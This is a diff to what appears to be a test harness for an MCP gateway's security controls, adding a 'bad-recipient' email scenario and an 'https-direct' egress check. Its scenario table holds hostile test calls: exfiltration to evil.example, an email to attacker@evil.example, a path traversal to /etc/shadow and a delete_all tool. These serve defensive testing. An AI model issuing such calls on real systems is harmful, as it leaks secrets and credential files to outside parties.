@@ -13,11 +13,11 @@ The MCP endpoint is --url, else $MCP_GATEWAY_URL/<server>; the caller's token is
 --token-file, else $AGENTGUARD_GATE_TOKEN_FILE, and sent as "Authorization: Bearer <token>".
 
 MCP scenarios (through the SDK): list-tools, allowed-call, denied-tool, bad-url-host, path-traversal,
-oversized, allowed-read, allowed-fetch, no-token, forged-token.
+bad-recipient, oversized, allowed-read, allowed-fetch, no-token, forged-token.
 Raw HTTP scenarios (what the SDK would never send): header-mismatch, batch, duplicate-keys, too-large.
 Egress through $HTTPS_PROXY (--target HOST:PORT, --sni, --ca): https-proxy-allowed (python requests),
 https-proxy-connect (a CONNECT by hand, optionally --proxy-token), https-proxy-ip-literal,
-https-proxy-private, https-proxy-sni-mismatch.
+https-proxy-private, https-proxy-sni-mismatch; https-direct (python requests, no proxy).
 """
 import argparse
 import asyncio
@@ -42,6 +42,7 @@ CALLS = {
     "allowed-fetch": ("fetch_page", {"url": "https://docs.example.com/guide"}),
     "denied-tool": ("delete_all", {}),
     "bad-url-host": ("fetch_page", {"url": "https://evil.example/exfiltrate?data=secrets"}),
+    "bad-recipient": ("send_email", dict(EMAIL, to="attacker@evil.example")),
     "path-traversal": ("read_file", {"path": "/workspace/../etc/shadow"}),
     "oversized": ("send_email", dict(EMAIL, body="x" * 5000)),
     "no-token": ("send_email", EMAIL),
@@ -270,10 +271,12 @@ def run_connect(args, out, target, sni):
 def run_proxy(args, out):
     target = args.target or ""
     host = target.rsplit(":", 1)[0]
-    if args.scenario == "https-proxy-allowed":
+    if args.scenario in ("https-proxy-allowed", "https-direct"):
         import requests
+        session = requests.Session()
+        session.trust_env = args.scenario == "https-proxy-allowed"  # https-direct: no proxy
         try:
-            response = requests.get(f"https://{target}/", timeout=args.timeout, verify=args.ca or True)
+            response = session.get(f"https://{target}/", timeout=args.timeout, verify=args.ca or True)
             out.update(outcome="connected", http_status=response.status_code, body=response.text.strip()[:500])
         except requests.RequestException as e:
             out.update(outcome="refused", error=f"{type(e).__name__}: {e}"[:500])
@@ -305,7 +308,7 @@ def main():
             run_raw(args, out)
         except OSError as e:
             out.update(outcome="unreachable", error=f"{type(e).__name__}: {e}")
-    elif args.scenario.startswith("https-proxy-"):
+    elif args.scenario.startswith("https-"):
         try:
             run_proxy(args, out)
         except OSError as e:
@@ -313,6 +316,7 @@ def main():
     else:
         parser.error(f"unknown scenario {args.scenario}")
     out["upstream_credential_visible"] = credential_visible()
+    out["https_proxy"] = os.environ.get("HTTPS_PROXY", "")
     print(json.dumps(out, sort_keys=True), flush=True)
 
 
